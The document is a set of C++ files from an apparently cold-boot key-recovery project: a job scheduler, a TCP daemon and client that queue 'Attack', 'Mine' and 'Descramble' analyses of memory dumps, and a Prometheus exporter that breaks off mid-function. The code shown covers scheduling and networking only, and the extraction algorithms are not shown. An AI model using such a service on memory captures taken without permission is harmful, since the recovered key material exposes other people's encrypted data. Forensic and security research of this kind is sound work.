/** Write one frame to @p fd; false on socket error. */
bool writeFrame(int fd, MsgType type, const std::string &payload);

/** writeFrame of an RError carrying @p message. */
bool writeError(int fd, const std::string &message);

} // namespace coldboot::serve

#endif // COLDBOOT_SERVE_PROTOCOL_HH
