#include "serve/scheduler.hh"

#include <sys/stat.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "attack/sessions.hh"
#include "common/logging.hh"
#include "exec/dump_io.hh"
#include "exec/thread_pool.hh"
#include "obs/progress.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::serve
{

namespace
{

/** serve.jobs.* counter shorthand. */
void
count(const char *name, const char *help)
{
    obs::StatRegistry::global().counter(name, help).add(1);
}

} // anonymous namespace

/**
 * One job. The scheduler lock_ guards every field except session
 * internals: the session is stepped only by the job's pool task, and
 * other threads touch it exclusively through the checkpoint cache
 * (refreshed between steps) and the CancelToken (atomic).
 */
struct JobScheduler::Job
{
    uint64_t id = 0;
    JobSpec spec;
    uint64_t dump_size = 0;
    uint64_t charge = 0;
    JobState state = JobState::Queued;
    bool cancel_requested = false;
    std::string error;
    /** Rendered deterministic result (terminal Done only). */
    std::string result_text;
    std::unique_ptr<exec::DumpSource> dump;
    std::unique_ptr<attack::AnalysisSession> session;
    /** Between-steps snapshot for status() (guarded by lock_). */
    attack::SessionCheckpoint cp;
    /** Umbrella progress units mirrored from the session's job. */
    uint64_t done_units = 0;
    uint64_t total_units = 0;
};

JobScheduler::JobScheduler(SchedulerOptions opts) : opts_(opts)
{
    if (opts_.max_concurrent_jobs == 0)
        opts_.max_concurrent_jobs = 1;
}

JobScheduler::~JobScheduler()
{
    shutdown();
}

uint64_t
JobScheduler::chargeBytes(uint64_t dump_size) const
{
    return std::min<uint64_t>(dump_size,
                              opts_.per_job_streaming_bytes);
}

uint64_t
JobScheduler::submit(const JobSpec &spec, std::string *error)
{
    auto fail = [&](const std::string &why) -> uint64_t {
        if (error != nullptr)
            *error = why;
        count("serve.jobs.rejected", "job submissions rejected");
        return 0;
    };

    // Validate up front, outside the lock: the analysis library
    // treats a bad dump as cb_fatal, and a daemon must survive a
    // client's typo.
    if (spec.dump_path.empty())
        return fail("empty dump path");
    struct stat st;
    if (::stat(spec.dump_path.c_str(), &st) != 0)
        return fail("cannot stat dump '" + spec.dump_path +
                    "': " + std::strerror(errno));
    if (!S_ISREG(st.st_mode))
        return fail("dump '" + spec.dump_path +
                    "' is not a regular file");
    uint64_t size = static_cast<uint64_t>(st.st_size);
    if (size == 0 || size % 64 != 0)
        return fail("dump '" + spec.dump_path + "' size " +
                    std::to_string(size) +
                    " is not a nonzero multiple of 64 bytes");
    if (spec.kind == JobKind::Descramble && spec.out_path.empty())
        return fail("descramble jobs need an output path");

    std::lock_guard<std::mutex> lk(lock_);
    if (draining_)
        return fail("server is draining; not accepting jobs");

    auto job = std::make_shared<Job>();
    job->id = next_id_++;
    job->spec = spec;
    job->dump_size = size;
    job->charge = chargeBytes(size);
    jobs_[job->id] = job;
    queues_[spec.client_id].push_back(job);
    count("serve.jobs.submitted", "jobs accepted for scheduling");
    obs::StatRegistry::global().setScalar(
        "serve.jobs.queued", static_cast<double>(queuedJobsLocked()),
        "jobs waiting for admission");
    pump();
    return job->id;
}

size_t
JobScheduler::queuedJobsLocked() const
{
    size_t n = 0;
    for (const auto &[client, q] : queues_)
        n += q.size();
    return n;
}

void
JobScheduler::pump()
{
    while (running_ < opts_.max_concurrent_jobs) {
        // Round-robin over client queues: first non-empty queue
        // strictly after the cursor, wrapping.
        std::shared_ptr<Job> job;
        auto it = queues_.upper_bound(rr_cursor_);
        for (size_t i = 0; i < queues_.size() && !job; ++i) {
            if (it == queues_.end())
                it = queues_.begin();
            if (!it->second.empty()) {
                job = it->second.front();
                rr_cursor_ = it->first;
            } else {
                ++it;
            }
        }
        if (!job)
            break;
        // RSS-budget admission; a lone job always runs, so an
        // over-budget dump degrades to serial execution instead of
        // deadlocking the queue.
        if (running_ > 0 &&
            charged_bytes_ + job->charge > opts_.rss_budget_bytes)
            break;
        queues_[rr_cursor_].pop_front();
        if (queues_[rr_cursor_].empty())
            queues_.erase(rr_cursor_);
        job->state = JobState::Running;
        ++running_;
        ++inflight_tasks_;
        charged_bytes_ += job->charge;
        // Pool tasks must not throw: runJob catches everything.
        exec::ThreadPool::global().submit(
            [this, job] { runJob(job); });
    }
    auto &registry = obs::StatRegistry::global();
    registry.setScalar("serve.jobs.running",
                       static_cast<double>(running_),
                       "jobs currently executing");
    registry.setScalar("serve.jobs.queued",
                       static_cast<double>(queuedJobsLocked()),
                       "jobs waiting for admission");
}

void
JobScheduler::runJob(const std::shared_ptr<Job> &job)
{
    obs::ScopedSpan span("serve.job");
    std::string progress_label =
        "serve.job." + std::to_string(job->id) + "." +
        jobKindName(job->spec.kind);
    try {
        // Huge dumps stream through buffered pread: mmapping a
        // multi-GiB capture would let the page cache blow through
        // the daemon's RSS budget.
        exec::DumpBackend backend =
            job->dump_size >= opts_.mmap_threshold_bytes
                ? exec::DumpBackend::Buffered
                : exec::DumpBackend::Auto;
        // Re-validate before the cb_fatal-on-error open: the file
        // may have vanished since submit.
        struct stat st;
        if (::stat(job->spec.dump_path.c_str(), &st) != 0 ||
            !S_ISREG(st.st_mode) || st.st_size == 0 ||
            st.st_size % 64 != 0)
            throw std::runtime_error("dump '" + job->spec.dump_path +
                                     "' disappeared or changed "
                                     "since submit");
        auto dump =
            exec::openDumpSource(job->spec.dump_path, backend);

        std::unique_ptr<attack::AnalysisSession> session;
        switch (job->spec.kind) {
        case JobKind::Attack: {
            attack::PipelineParams params;
            if (job->spec.scan_limit_bytes != 0)
                params.miner.scan_limit_bytes =
                    job->spec.scan_limit_bytes;
            if (!job->spec.key_sizes.empty())
                params.key_sizes = job->spec.key_sizes;
            session = std::make_unique<attack::AttackSession>(
                *dump, params, progress_label);
            break;
        }
        case JobKind::Mine: {
            attack::MinerParams params;
            if (job->spec.scan_limit_bytes != 0)
                params.scan_limit_bytes = job->spec.scan_limit_bytes;
            session = std::make_unique<attack::MineSession>(
                *dump, params, progress_label);
            break;
        }
        case JobKind::Descramble: {
            attack::MinerParams params;
            if (job->spec.scan_limit_bytes != 0)
                params.scan_limit_bytes = job->spec.scan_limit_bytes;
            session = std::make_unique<attack::DescrambleSession>(
                *dump, job->spec.out_path, params, progress_label);
            break;
        }
        }

        // Publish the session (and honour a cancel that raced the
        // admission window) before the first step.
        {
            std::lock_guard<std::mutex> lk(lock_);
            job->dump = std::move(dump);
            job->session = std::move(session);
            if (job->cancel_requested)
                job->session->cancelToken().requestCancel();
        }

        bool more = true;
        while (more) {
            more = job->session->step();
            // Refresh the status snapshot between steps.
            std::lock_guard<std::mutex> lk(lock_);
            job->cp = job->session->checkpoint();
            if (auto p = job->session->progressJob()) {
                job->done_units = p->doneUnits();
                job->total_units = p->totalUnits();
            }
        }

        // Render the deterministic result while the session is
        // still alive, then let finishJob drop it.
        std::string text;
        switch (job->spec.kind) {
        case JobKind::Attack:
            text = attack::renderAttackResult(
                static_cast<attack::AttackSession &>(*job->session)
                    .report());
            break;
        case JobKind::Mine: {
            auto &mine =
                static_cast<attack::MineSession &>(*job->session);
            text = attack::renderMineResult(
                mine.stats(), mine.minedKeys(),
                job->spec.top_n != 0 ? job->spec.top_n : 10);
            break;
        }
        case JobKind::Descramble:
            text = attack::renderDescrambleResult(
                static_cast<attack::DescrambleSession &>(
                    *job->session)
                    .result());
            break;
        }
        {
            std::lock_guard<std::mutex> lk(lock_);
            job->result_text = std::move(text);
        }
        finishJob(job, JobState::Done, "");
    } catch (const exec::CancelledError &) {
        finishJob(job, JobState::Cancelled, "");
    } catch (const std::exception &e) {
        finishJob(job, JobState::Failed, e.what());
    }
}

void
JobScheduler::finishJob(const std::shared_ptr<Job> &job,
                        JobState state, const std::string &error)
{
    std::lock_guard<std::mutex> lk(lock_);
    if (job->session != nullptr)
        job->cp = job->session->checkpoint();
    job->state = state;
    job->error = error;
    // Release the analysis state eagerly: a retained job costs a
    // status record and its rendered text, not a dump mapping.
    job->session.reset();
    job->dump.reset();
    --running_;
    --inflight_tasks_;
    charged_bytes_ -= job->charge;
    switch (state) {
    case JobState::Done:
        count("serve.jobs.completed", "jobs finished successfully");
        break;
    case JobState::Cancelled:
        count("serve.jobs.cancelled", "jobs cancelled");
        break;
    default:
        count("serve.jobs.failed", "jobs failed");
        break;
    }
    pump();
    terminal_cv_.notify_all();
}

JobStatus
JobScheduler::statusLocked(const std::shared_ptr<Job> &job)
{
    JobStatus st;
    st.job_id = job->id;
    st.kind = job->spec.kind;
    st.state = job->state;
    st.client_id = job->spec.client_id;
    st.stage = job->state == JobState::Queued
                   ? "queued"
                   : attack::sessionStageName(job->cp.stage);
    st.done_units = job->done_units;
    st.total_units = job->total_units;
    st.elapsed_ms = static_cast<uint64_t>(
        job->cp.elapsed_seconds * 1000.0);
    st.error = job->error;
    return st;
}

std::optional<JobStatus>
JobScheduler::status(uint64_t job_id)
{
    std::lock_guard<std::mutex> lk(lock_);
    auto it = jobs_.find(job_id);
    if (it == jobs_.end())
        return std::nullopt;
    return statusLocked(it->second);
}

std::vector<JobStatus>
JobScheduler::list()
{
    std::lock_guard<std::mutex> lk(lock_);
    std::vector<JobStatus> out;
    out.reserve(jobs_.size());
    for (auto &[id, job] : jobs_)
        out.push_back(statusLocked(job));
    return out;
}

bool
JobScheduler::waitResult(uint64_t job_id, JobResult *out)
{
    std::unique_lock<std::mutex> lk(lock_);
    auto it = jobs_.find(job_id);
    if (it == jobs_.end())
        return false;
    auto job = it->second;
    terminal_cv_.wait(
        lk, [&] { return jobStateTerminal(job->state); });
    out->job_id = job->id;
    out->state = job->state;
    out->text = job->result_text;
    out->error = job->error;
    return true;
}

bool
JobScheduler::cancel(uint64_t job_id)
{
    std::lock_guard<std::mutex> lk(lock_);
    auto it = jobs_.find(job_id);
    if (it == jobs_.end())
        return false;
    auto job = it->second;
    if (jobStateTerminal(job->state))
        return false;
    if (job->state == JobState::Queued) {
        // Dequeue: a queued job never ran, so it terminates here.
        auto qit = queues_.find(job->spec.client_id);
        if (qit != queues_.end()) {
            auto &q = qit->second;
            for (auto jit = q.begin(); jit != q.end(); ++jit) {
                if ((*jit)->id == job_id) {
                    q.erase(jit);
                    break;
                }
            }
            if (q.empty())
                queues_.erase(qit);
        }
        job->state = JobState::Cancelled;
        count("serve.jobs.cancelled", "jobs cancelled");
        terminal_cv_.notify_all();
        return true;
    }
    // Running: raise the token (or flag it if the session is still
    // being constructed); the job terminates at the session's next
    // cooperative checkpoint.
    job->cancel_requested = true;
    if (job->session != nullptr)
        job->session->cancelToken().requestCancel();
    return true;
}

void
JobScheduler::drain(bool cancel_running)
{
    std::unique_lock<std::mutex> lk(lock_);
    draining_ = true;
    // Queued jobs will never run now; cancel them outright.
    for (auto &[client, q] : queues_) {
        for (auto &job : q) {
            job->state = JobState::Cancelled;
            count("serve.jobs.cancelled", "jobs cancelled");
        }
    }
    queues_.clear();
    if (cancel_running) {
        for (auto &[id, job] : jobs_) {
            if (job->state == JobState::Running) {
                job->cancel_requested = true;
                if (job->session != nullptr)
                    job->session->cancelToken().requestCancel();
            }
        }
    }
    terminal_cv_.notify_all();
    terminal_cv_.wait(lk, [&] { return inflight_tasks_ == 0; });
}

size_t
JobScheduler::runningJobs()
{
    std::lock_guard<std::mutex> lk(lock_);
    return running_;
}

size_t
JobScheduler::queuedJobs()
{
    std::lock_guard<std::mutex> lk(lock_);
    return queuedJobsLocked();
}

} // namespace coldboot::serve
