/**
 * @file
 * Admission-controlled job scheduler of the analysis service.
 *
 * Jobs wrap attack::AnalysisSession stage machines (DESIGN.md §14)
 * and run as tasks on the shared exec::ThreadPool - the scheduler
 * adds the policy layer the pool deliberately does not have:
 *
 *  - bounded concurrency: at most max_concurrent_jobs sessions step
 *    at once (each session still parallelises its scans across the
 *    whole pool, so this bounds memory and fairness, not CPU);
 *  - per-client fair share: one FIFO queue per client_id, admitted
 *    round-robin, so a client queueing fifty dumps cannot starve a
 *    client queueing one;
 *  - RSS-budget admission: each job is charged its streaming
 *    footprint (min(dump size, per_job_streaming_bytes)) against
 *    rss_budget_bytes before it may start, and dumps at or above
 *    mmap_threshold_bytes are forced onto the buffered-pread backend
 *    so a multi-GiB capture never mmaps wholesale into the daemon.
 *    One job is always admitted when none is running - the budget
 *    shapes concurrency, it cannot deadlock the queue.
 *
 * Dump paths are validated at submit time (existing regular file,
 * non-empty, 64-byte aligned) precisely because the library treats a
 * bad dump as cb_fatal: a client typo must reject one submission,
 * not kill a daemon holding other clients' running jobs.
 *
 * Cancellation is cooperative end to end: cancel() on a queued job
 * dequeues it; on a running job it raises the session's CancelToken
 * and the job reaches Cancelled at the session's next per-chunk
 * checkpoint, leaving every other job untouched.
 */

#ifndef COLDBOOT_SERVE_SCHEDULER_HH
#define COLDBOOT_SERVE_SCHEDULER_HH

#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "serve/protocol.hh"

namespace coldboot::exec
{
class ThreadPool;
} // namespace coldboot::exec

namespace coldboot::serve
{

/** Scheduler tuning. */
struct SchedulerOptions
{
    /** Sessions stepping concurrently. */
    size_t max_concurrent_jobs = 2;
    /** Total streaming-footprint budget across running jobs. */
    uint64_t rss_budget_bytes = 2ull << 30;
    /** Per-job footprint charge cap - the working set a streaming
     *  scan actually keeps resident, not the whole dump. */
    uint64_t per_job_streaming_bytes = 256ull << 20;
    /** Dumps at or above this size use buffered pread, not mmap. */
    uint64_t mmap_threshold_bytes = 1ull << 30;
};

/**
 * The scheduler. Thread safe throughout; waitResult() blocks the
 * calling (handler) thread, everything else returns immediately.
 */
class JobScheduler
{
  public:
    explicit JobScheduler(SchedulerOptions opts = {});

    JobScheduler(const JobScheduler &) = delete;
    JobScheduler &operator=(const JobScheduler &) = delete;

    /** Implies shutdown(). */
    ~JobScheduler();

    /**
     * Validate and enqueue a job. Returns the job id (>= 1), or 0
     * with @p error set when the spec is rejected (bad dump path,
     * draining, ...).
     */
    uint64_t submit(const JobSpec &spec, std::string *error);

    /** Status of one job. */
    std::optional<JobStatus> status(uint64_t job_id);

    /** Status of every retained job, id order. */
    std::vector<JobStatus> list();

    /**
     * Block until the job is terminal and fill @p out. False for an
     * unknown id.
     */
    bool waitResult(uint64_t job_id, JobResult *out);

    /**
     * Cancel a job: dequeue it if queued, raise its cancel token if
     * running. False for unknown or already-terminal jobs.
     */
    bool cancel(uint64_t job_id);

    /**
     * Stop admitting work and bring the scheduler to rest. Queued
     * jobs are cancelled; running jobs either finish (cancel_running
     * false - graceful drain) or are cancel-raised (true - fast
     * drain). Blocks until no job is queued or running. Idempotent.
     */
    void drain(bool cancel_running);

    /** drain(cancel_running = true). */
    void shutdown() { drain(true); }

    /** Jobs currently running / queued (for tests and /metrics). */
    size_t runningJobs();
    size_t queuedJobs();

  private:
    struct Job;

    /** Admit queued jobs while policy allows; lock_ must be held. */
    void pump();
    /** Pool-task body: run @p job's session to a terminal state. */
    void runJob(const std::shared_ptr<Job> &job);
    void finishJob(const std::shared_ptr<Job> &job, JobState state,
                   const std::string &error);
    JobStatus statusLocked(const std::shared_ptr<Job> &job);
    uint64_t chargeBytes(uint64_t dump_size) const;
    size_t queuedJobsLocked() const;

    SchedulerOptions opts_;
    std::mutex lock_;
    std::condition_variable terminal_cv_;
    uint64_t next_id_ = 1;
    bool draining_ = false;
    /** All jobs ever submitted, by id (retained for status/result). */
    std::map<uint64_t, std::shared_ptr<Job>> jobs_;
    /** Per-client FIFO queues of not-yet-admitted jobs. */
    std::map<std::string, std::deque<std::shared_ptr<Job>>> queues_;
    /** Round-robin cursor over queues_ (client_id last admitted). */
    std::string rr_cursor_;
    size_t running_ = 0;
    /** Streaming-footprint charge of the running set. */
    uint64_t charged_bytes_ = 0;
    /** Pool tasks in flight (running jobs incl. ones finishing). */
    size_t inflight_tasks_ = 0;
};

} // namespace coldboot::serve

#endif // COLDBOOT_SERVE_SCHEDULER_HH
