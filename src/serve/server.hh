/**
 * @file
 * The analysis-job daemon's network front end.
 *
 * JobServer owns an obs::TcpListener and two exec::ThreadPools: a
 * single-worker pool hosting the accept loop (the same shape as
 * ObsHttpServer) and a small handler pool running one task per live
 * connection, because Result requests block until their job is
 * terminal - a client waiting on a slow attack must not stop other
 * clients from submitting. Everything behind the socket is
 * JobScheduler; the server only speaks the frame protocol.
 *
 * Like the obs HTTP server, binding defaults to 127.0.0.1: job
 * results are recovered key material.
 */

#ifndef COLDBOOT_SERVE_SERVER_HH
#define COLDBOOT_SERVE_SERVER_HH

#include <atomic>
#include <memory>
#include <string>

#include "obs/tcp_listener.hh"
#include "serve/scheduler.hh"

namespace coldboot::exec
{
class ThreadPool;
} // namespace coldboot::exec

namespace coldboot::serve
{

/** Server tuning. */
struct ServerOptions
{
    obs::ServeSpec bind;
    SchedulerOptions scheduler;
    /** Concurrent client connections served. */
    size_t handler_threads = 4;
};

/** The daemon: listener + connection handlers over a JobScheduler. */
class JobServer
{
  public:
    explicit JobServer(ServerOptions opts = {});

    JobServer(const JobServer &) = delete;
    JobServer &operator=(const JobServer &) = delete;

    ~JobServer();

    /**
     * Bind, listen and launch the accept loop. False with @p error
     * set when the socket cannot be bound (EADDRINUSE gets the
     * dedicated actionable message from obs::TcpListener).
     */
    bool start(std::string *error = nullptr);

    /**
     * Stop accepting, drop live connections, drain the scheduler
     * (cancelling running jobs) and join. Idempotent.
     */
    void stop();

    /** Address actually bound (valid after a successful start()). */
    const std::string &address() const { return listener_.address(); }

    /** Port actually bound - resolves `port 0` requests. */
    uint16_t port() const { return listener_.port(); }

    /** The scheduler (tests drive it directly; the daemon polls). */
    JobScheduler &scheduler() { return scheduler_; }

    /** Whether a Shutdown request has been received. */
    bool shutdownRequested() const
    {
        return shutdown_flag_.load(std::memory_order_acquire);
    }

  private:
    void acceptLoop();
    void handleConnection(int fd);
    /** Dispatch one request frame; false ends the connection. */
    bool handleFrame(int fd, const Frame &frame);

    ServerOptions opts_;
    JobScheduler scheduler_;
    obs::TcpListener listener_;
    bool running_ = false;
    std::atomic<bool> stopping_{false};
    std::atomic<bool> shutdown_flag_{false};
    /** Single worker hosting the accept loop. */
    std::unique_ptr<exec::ThreadPool> loop_pool_;
    /** One task per live connection. */
    std::unique_ptr<exec::ThreadPool> handler_pool_;
};

} // namespace coldboot::serve

#endif // COLDBOOT_SERVE_SERVER_HH
