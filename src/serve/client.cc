#include "serve/client.hh"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

namespace coldboot::serve
{

namespace
{

void
setError(std::string *error, const std::string &message)
{
    if (error != nullptr)
        *error = message;
}

} // anonymous namespace

JobClient::~JobClient()
{
    close();
}

bool
JobClient::connect(const std::string &addr, uint16_t port,
                   std::string *error)
{
    if (fd_ >= 0) {
        setError(error, "already connected");
        return false;
    }
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0) {
        setError(error, std::string("socket: ") +
                            std::strerror(errno));
        return false;
    }
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    if (::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr) != 1) {
        setError(error, "bad IPv4 address '" + addr + "'");
        close();
        return false;
    }
    // Request/response protocol: never let Nagle batch frames.
    int one = 1;
    setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    while (::connect(fd_, reinterpret_cast<sockaddr *>(&sa),
                     sizeof(sa)) != 0) {
        if (errno == EINTR)
            continue;
        setError(error, "connect " + addr + ":" +
                            std::to_string(port) + ": " +
                            std::strerror(errno));
        close();
        return false;
    }
    return true;
}

void
JobClient::close()
{
    if (fd_ >= 0) {
        ::close(fd_);
        fd_ = -1;
    }
}

bool
JobClient::roundTrip(MsgType req, const std::string &payload,
                     MsgType expected, Frame *reply,
                     std::string *error)
{
    if (fd_ < 0) {
        setError(error, "not connected");
        return false;
    }
    if (!writeFrame(fd_, req, payload)) {
        setError(error, "connection lost (send)");
        return false;
    }
    if (!readFrame(fd_, reply)) {
        setError(error, "connection lost (recv)");
        return false;
    }
    if (reply->type == MsgType::RError) {
        WireReader r(reply->payload);
        setError(error, r.str());
        return false;
    }
    if (reply->type != expected) {
        setError(error, "unexpected response type");
        return false;
    }
    return true;
}

uint64_t
JobClient::submit(const JobSpec &spec, std::string *error)
{
    WireWriter w;
    encodeJobSpec(w, spec);
    Frame reply;
    if (!roundTrip(MsgType::Submit, w.bytes(), MsgType::RSubmit,
                   &reply, error))
        return 0;
    WireReader r(reply.payload);
    uint64_t id = r.u64();
    if (!r.ok() || id == 0) {
        setError(error, "malformed submit response");
        return 0;
    }
    return id;
}

bool
JobClient::status(uint64_t job_id, JobStatus *out,
                  std::string *error)
{
    WireWriter w;
    w.u64(job_id);
    Frame reply;
    if (!roundTrip(MsgType::Status, w.bytes(), MsgType::RStatus,
                   &reply, error))
        return false;
    WireReader r(reply.payload);
    if (!decodeJobStatus(r, out)) {
        setError(error, "malformed status response");
        return false;
    }
    return true;
}

bool
JobClient::result(uint64_t job_id, JobResult *out,
                  std::string *error)
{
    WireWriter w;
    w.u64(job_id);
    Frame reply;
    if (!roundTrip(MsgType::Result, w.bytes(), MsgType::RResult,
                   &reply, error))
        return false;
    WireReader r(reply.payload);
    if (!decodeJobResult(r, out)) {
        setError(error, "malformed result response");
        return false;
    }
    return true;
}

bool
JobClient::cancel(uint64_t job_id, std::string *error)
{
    WireWriter w;
    w.u64(job_id);
    Frame reply;
    if (!roundTrip(MsgType::Cancel, w.bytes(), MsgType::RCancel,
                   &reply, error))
        return false;
    WireReader r(reply.payload);
    return r.u32() != 0;
}

bool
JobClient::list(std::vector<JobStatus> *out, std::string *error)
{
    Frame reply;
    if (!roundTrip(MsgType::List, "", MsgType::RList, &reply, error))
        return false;
    WireReader r(reply.payload);
    uint32_t n = r.u32();
    out->clear();
    for (uint32_t i = 0; i < n; ++i) {
        JobStatus st;
        if (!decodeJobStatus(r, &st)) {
            setError(error, "malformed list response");
            return false;
        }
        out->push_back(std::move(st));
    }
    return r.ok();
}

bool
JobClient::shutdown(std::string *error)
{
    Frame reply;
    return roundTrip(MsgType::Shutdown, "", MsgType::ROk, &reply,
                     error);
}

} // namespace coldboot::serve
