/**
 * @file
 * Client side of the analysis-job protocol: a blocking connection
 * that wraps each request/response round in a typed call. Used by
 * coldboot-client, the smoke tests and the serve bench; thread-safe
 * for one caller at a time per connection (the protocol is strictly
 * request/response, so interleaving callers would corrupt framing -
 * open one JobClient per thread instead).
 */

#ifndef COLDBOOT_SERVE_CLIENT_HH
#define COLDBOOT_SERVE_CLIENT_HH

#include <cstdint>
#include <string>
#include <vector>

#include "serve/protocol.hh"

namespace coldboot::serve
{

/** One connection to a coldboot-served daemon. */
class JobClient
{
  public:
    JobClient() = default;

    JobClient(const JobClient &) = delete;
    JobClient &operator=(const JobClient &) = delete;

    ~JobClient();

    /** Connect to @p addr:@p port. False with @p error set. */
    bool connect(const std::string &addr, uint16_t port,
                 std::string *error = nullptr);

    /** Close the connection (idempotent). */
    void close();

    bool connected() const { return fd_ >= 0; }

    /** Submit a job; returns the id (>= 1) or 0 with @p error set. */
    uint64_t submit(const JobSpec &spec,
                    std::string *error = nullptr);

    /** Fetch a job's status. */
    bool status(uint64_t job_id, JobStatus *out,
                std::string *error = nullptr);

    /** Block until the job is terminal and fetch its result. */
    bool result(uint64_t job_id, JobResult *out,
                std::string *error = nullptr);

    /** Request cancellation; false (without error) when the job was
     *  already terminal or unknown to the scheduler. */
    bool cancel(uint64_t job_id, std::string *error = nullptr);

    /** List every job the server retains. */
    bool list(std::vector<JobStatus> *out,
              std::string *error = nullptr);

    /** Ask the daemon to shut down (it drains and exits). */
    bool shutdown(std::string *error = nullptr);

  private:
    /** One request/response round; false with @p error set. */
    bool roundTrip(MsgType req, const std::string &payload,
                   MsgType expected, Frame *reply,
                   std::string *error);

    int fd_ = -1;
};

} // namespace coldboot::serve

#endif // COLDBOOT_SERVE_CLIENT_HH
