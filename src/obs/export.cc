#include "obs/export.hh"

#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <set>

#include "obs/json.hh"

namespace coldboot::obs
{

namespace
{

/** Format a double the way Prometheus expects (shortest round-trip
 *  is not required; %.17g keeps counters exact through 2^53). */
std::string
promNumber(double v)
{
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%.17g", v);
    return buf;
}

/** Escape a HELP text: backslash and newline per the format spec. */
std::string
promHelpEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size());
    for (char c : s) {
        if (c == '\\')
            out += "\\\\";
        else if (c == '\n')
            out += "\\n";
        else
            out += c;
    }
    return out;
}

void
emitFamily(std::string &out, const std::string &name,
           const std::string &help, const char *type)
{
    if (!help.empty())
        out += "# HELP " + name + " " + promHelpEscape(help) + "\n";
    out += "# TYPE " + name + " " + type + "\n";
}

bool
legalNameChar(char c, bool first)
{
    if (std::isalpha(static_cast<unsigned char>(c)) || c == '_' ||
        c == ':')
        return true;
    return !first && std::isdigit(static_cast<unsigned char>(c));
}

} // anonymous namespace

std::string
prometheusName(const std::string &name)
{
    std::string out;
    out.reserve(name.size() + 1);
    for (char c : name)
        out += legalNameChar(c, false) ? c : '_';
    if (out.empty() ||
        std::isdigit(static_cast<unsigned char>(out[0])))
        out.insert(out.begin(), '_');
    return out;
}

std::string
renderPrometheusText(const std::vector<StatSnapshot> &stats,
                     const std::vector<SeriesSnapshot> *series)
{
    std::string out;
    out.reserve(stats.size() * 96);
    for (const auto &s : stats) {
        const std::string name = prometheusName(s.name);
        switch (s.type) {
          case StatSnapshot::Type::Counter:
            emitFamily(out, name, s.desc, "counter");
            out += name + " " + promNumber(s.value) + "\n";
            break;
          case StatSnapshot::Type::Scalar:
            emitFamily(out, name, s.desc, "gauge");
            out += name + " " + promNumber(s.value) + "\n";
            break;
          case StatSnapshot::Type::Rate:
            emitFamily(out, name, s.desc, "counter");
            out += name + " " + promNumber(s.value) + "\n";
            emitFamily(out, name + "_per_second",
                       "derived events-per-second of " + s.name,
                       "gauge");
            out += name + "_per_second " +
                   promNumber(s.per_second) + "\n";
            break;
          case StatSnapshot::Type::Distribution: {
            const DistributionSnapshot &d = s.dist;
            if (!d.bucket_edges.empty()) {
                // Cumulative histogram per the exposition format.
                emitFamily(out, name, s.desc, "histogram");
                uint64_t cum = 0;
                for (size_t i = 0; i < d.bucket_edges.size(); ++i) {
                    // bucket_counts[0] is the underflow bucket
                    // (-inf, e0); Prometheus le="e0" is cumulative
                    // count <= e0, which our [e_{i-1}, e_i) buckets
                    // approximate by summing through bucket i.
                    cum += d.bucket_counts[i];
                    out += name + "_bucket{le=\"" +
                           promNumber(d.bucket_edges[i]) + "\"} " +
                           promNumber(static_cast<double>(cum)) +
                           "\n";
                }
                cum += d.bucket_counts.back();
                out += name + "_bucket{le=\"+Inf\"} " +
                       promNumber(static_cast<double>(cum)) + "\n";
                out += name + "_sum " + promNumber(d.sum) + "\n";
                out += name + "_count " +
                       promNumber(static_cast<double>(d.count)) +
                       "\n";
            } else {
                emitFamily(out, name + "_count", s.desc, "counter");
                out += name + "_count " +
                       promNumber(static_cast<double>(d.count)) +
                       "\n";
                emitFamily(out, name + "_sum", "", "gauge");
                out += name + "_sum " + promNumber(d.sum) + "\n";
                emitFamily(out, name + "_min", "", "gauge");
                out += name + "_min " + promNumber(d.min) + "\n";
                emitFamily(out, name + "_max", "", "gauge");
                out += name + "_max " + promNumber(d.max) + "\n";
                emitFamily(out, name + "_mean", "", "gauge");
                out += name + "_mean " + promNumber(d.mean) + "\n";
            }
            break;
          }
        }
    }
    if (series != nullptr) {
        for (const auto &sr : *series) {
            const std::string name =
                prometheusName(sr.name) + "_ewma_per_second";
            emitFamily(out, name,
                       "sampler EWMA rate of " + sr.name, "gauge");
            out += name + " " + promNumber(sr.ewma_rate) + "\n";
        }
    }
    return out;
}

std::string
renderSeriesJson(const std::vector<SeriesSnapshot> &series)
{
    std::string out = "{\n  \"series\": [";
    bool first = true;
    for (const auto &sr : series) {
        out += first ? "\n" : ",\n";
        first = false;
        out += "    {\"name\": \"" + json::escape(sr.name) +
               "\", \"kind\": \"" + json::escape(sr.kind) +
               "\", \"ewma_rate\": " + json::number(sr.ewma_rate) +
               ", \"points\": [";
        for (size_t i = 0; i < sr.points.size(); ++i) {
            const SeriesPoint &p = sr.points[i];
            if (i)
                out += ", ";
            out += "{\"unix_ms\": " + json::number(p.unix_ms) +
                   ", \"value\": " + json::number(p.value) +
                   ", \"delta\": " + json::number(p.delta) +
                   ", \"rate\": " + json::number(p.rate) + "}";
        }
        out += "]}";
    }
    out += "\n  ]\n}\n";
    return out;
}

namespace
{

/** One whitespace-separated token starting at text[i]. */
std::string_view
tokenAt(std::string_view line, size_t &i)
{
    while (i < line.size() && (line[i] == ' ' || line[i] == '\t'))
        ++i;
    size_t start = i;
    while (i < line.size() && line[i] != ' ' && line[i] != '\t')
        ++i;
    return line.substr(start, i - start);
}

bool
validMetricName(std::string_view name)
{
    if (name.empty())
        return false;
    for (size_t i = 0; i < name.size(); ++i)
        if (!legalNameChar(name[i], i == 0))
            return false;
    return true;
}

bool
validValue(std::string_view v)
{
    if (v == "+Inf" || v == "-Inf" || v == "Inf" || v == "NaN" ||
        v == "nan")
        return true;
    if (v.empty())
        return false;
    std::string s(v);
    char *end = nullptr;
    std::strtod(s.c_str(), &end);
    return end == s.c_str() + s.size();
}

/**
 * Validate a `name{label="value",...}` metric reference; returns the
 * position after it (npos on malformed input).
 */
size_t
